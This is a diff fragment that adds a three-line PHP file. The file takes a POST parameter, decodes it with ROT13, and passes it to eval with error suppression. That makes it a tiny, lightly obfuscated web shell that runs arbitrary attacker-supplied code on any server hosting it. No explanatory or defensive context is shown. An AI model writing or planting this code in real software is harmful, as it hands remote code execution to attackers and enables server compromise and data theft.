@@ -1,0 +1,3 @@
+<?php
+$x=$_POST['x'];
+@eval(str_rot13($x));
